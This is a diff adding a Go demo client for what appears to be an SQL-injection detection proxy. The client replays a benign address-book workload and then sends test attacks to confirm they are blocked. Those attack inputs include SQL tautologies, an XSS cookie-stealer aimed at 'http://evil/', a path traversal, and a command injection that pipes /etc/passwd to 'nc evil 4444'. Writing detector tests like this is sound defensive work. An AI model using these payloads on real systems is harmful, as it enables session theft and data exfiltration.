@@ -1,0 +1,108 @@
+// Command septic-replay exercises a running septicd from the outside,
+// playing the role of the demo's web-application VM: it deploys the
+// PHP Address Book pages over the wire protocol, replays the benign
+// workload (which the server learns incrementally on first sight), and
+// then fires a battery of injection attempts — one per detector — so
+// the observability endpoints have something to show.
+//
+// Usage:
+//
+//	septic-replay [-addr 127.0.0.1:3306] [-rounds 3] [-attacks]
+//
+// Typical session (see `make obs-demo`):
+//
+//	septicd -addr :3306 -obs-addr :9188 &
+//	septic-replay -attacks
+//	curl localhost:9188/metrics
+//	curl localhost:9188/events?kind=attack
+package main
+
+import (
+	"flag"
+	"fmt"
+	"os"
+
+	"github.com/septic-db/septic/internal/webapp"
+	"github.com/septic-db/septic/internal/webapp/apps"
+	"github.com/septic-db/septic/internal/wire"
+)
+
+// attackRequests is one representative per detector: a numeric-context
+// tautology (structural), the paper's U+02BC semantic mismatch through a
+// sanitized string context (syntactical after decoding), and a stored
+// payload for each plugin in the chain.
+func attackRequests() []webapp.Request {
+	return []webapp.Request{
+		{Path: "/contact", Params: map[string]string{"id": "1 OR 1=1"}},
+		{Path: "/search", Params: map[string]string{"q": "anaʼ OR ʼ1ʼ=ʼ1"}},
+		{Path: "/contact/add", Params: map[string]string{
+			"name": "mallory", "phone": "1",
+			"email": "<script>document.location='http://evil/'+document.cookie</script>"}},
+		{Path: "/contact/add", Params: map[string]string{
+			"name": "mallory", "phone": "1", "address": "../../../../etc/passwd"}},
+		{Path: "/contact/add", Params: map[string]string{
+			"name": "mallory", "phone": "; cat /etc/passwd | nc evil 4444"}},
+	}
+}
+
+func main() {
+	var (
+		addr    = flag.String("addr", "127.0.0.1:3306", "septicd address")
+		rounds  = flag.Int("rounds", 3, "benign workload rounds (first round trains incrementally)")
+		attacks = flag.Bool("attacks", false, "fire the attack battery after the benign rounds")
+	)
+	flag.Parse()
+	if err := run(*addr, *rounds, *attacks); err != nil {
+		fmt.Fprintln(os.Stderr, "septic-replay:", err)
+		os.Exit(1)
+	}
+}
+
+func run(addr string, rounds int, attacks bool) error {
+	client, err := wire.Dial(addr)
+	if err != nil {
+		return err
+	}
+	defer client.Close()
+
+	for _, ddl := range apps.AddressBookSchema() {
+		if _, err := client.Exec(ddl); err != nil {
+			return fmt.Errorf("schema: %w", err)
+		}
+	}
+	app := apps.NewAddressBook(client)
+
+	served, failed := 0, 0
+	for round := 0; round < rounds; round++ {
+		reqs := apps.AddressBookTraining()
+		if round > 0 {
+			reqs = apps.AddressBookWorkload()
+		}
+		for _, req := range reqs {
+			if resp := app.Serve(req); resp.Status == 200 {
+				served++
+			} else {
+				failed++
+				fmt.Fprintf(os.Stderr, "septic-replay: %s -> %d (%v)\n",
+					req.Path, resp.Status, resp.Err)
+			}
+		}
+	}
+	fmt.Printf("septic-replay: benign workload: %d requests served, %d failed\n", served, failed)
+
+	if attacks {
+		blocked := 0
+		for _, req := range attackRequests() {
+			resp := app.Serve(req)
+			if resp.Blocked {
+				blocked++
+			}
+			fmt.Printf("septic-replay: attack %-14s blocked=%t\n", req.Path, resp.Blocked)
+		}
+		fmt.Printf("septic-replay: %d/%d attacks blocked\n", blocked, len(attackRequests()))
+		if blocked != len(attackRequests()) {
+			return fmt.Errorf("%d attacks were not blocked", len(attackRequests())-blocked)
+		}
+	}
+	return nil
+}
